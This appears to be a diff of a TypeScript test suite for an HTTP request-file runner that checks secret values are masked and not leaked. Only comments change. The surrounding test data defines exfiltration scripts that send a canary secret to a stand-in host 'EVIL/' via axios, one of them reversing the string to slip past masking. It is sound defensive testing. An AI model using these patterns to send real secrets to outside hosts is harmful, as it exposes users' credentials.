@@ -4,19 +4,19 @@ import type { OutgoingMessage } from '../../src/runner/index.ts';
 import { startRecorder, type Recorder } from '../support/recorder.ts';
 import { sendRun, type SendRun } from '../support/sendRun.ts';
 
-/** Long enough for a key of HS256. Its pieces of eight characters occur nowhere else. */
+/** Long enough for a key of HS256. Its parts of eight characters occur nowhere else. */
 const value = 'Riga-0815-canary-9f2c-4711-hush-5b7d';
 
 interface Way {
   readonly text: string;
-  /** Of the request; `a.req` if absent. */
+  /** File of the request; `a.req` if absent. */
   readonly file?: string;
   readonly data?: string;
-  /** Of `http-client.env.json`, for the environment `dev`. */
+  /** Configurations of `http-client.env.json`, for the environment `dev`. */
   readonly oauth?: Readonly<Record<string, string>>;
-  /** A value that can be used here; `value` if absent. */
+  /** A value that is valid here; `value` if absent. */
   readonly value?: string;
-  /** Only a signature made with the value is sent, so nothing can show it. */
+  /** Only a signature made with the value is sent, so the value itself cannot be received. */
   readonly isKey?: true;
 }
 
@@ -31,7 +31,7 @@ const read = 'tool.interpolate("VALUE")';
 const inScript = (sends: string): string =>
   `< {%\nconst sent = ${sends};\nconsole.log(JSON.stringify(sent?.data ?? sent?.json?.() ?? null), ${read});\n%}\nGET GOOD/\n`;
 
-/** How a value can reach another host. `VALUE` is its placeholder, in the syntax of the file. */
+/** Ways of a value to another host. `VALUE` is its placeholder, in the syntax of the file. */
 const ways: Readonly<Record<string, Way>> = {
   'axios with a body': { text: inScript(`await axios.post("EVIL/", ${read})`) },
   'axios with parameters, reversed': { text: inScript(`await axios.get("EVIL/", { params: { q: [...${read}].reverse().join("") } })`) },
@@ -194,8 +194,8 @@ describe('what may not go to every receiver, or may not be shown', () => {
   }
 
   /**
-   * What the runner shows masked; bodies and values of variables are masked by what shows them. In a user's run, the console can show pieces
-   * that a script printed.
+   * Checks the texts that the runner masks. Bodies and values of variables are masked by their readers. In a user's run, the console can
+   * show parts printed by a script.
    */
   function assertHidden({ events }: SendRun, { value: given = value }: Way, isAgent: boolean): void {
     const pieces = piecesOf(given === pem ? (pem.split('\n')[1] ?? '') : given);
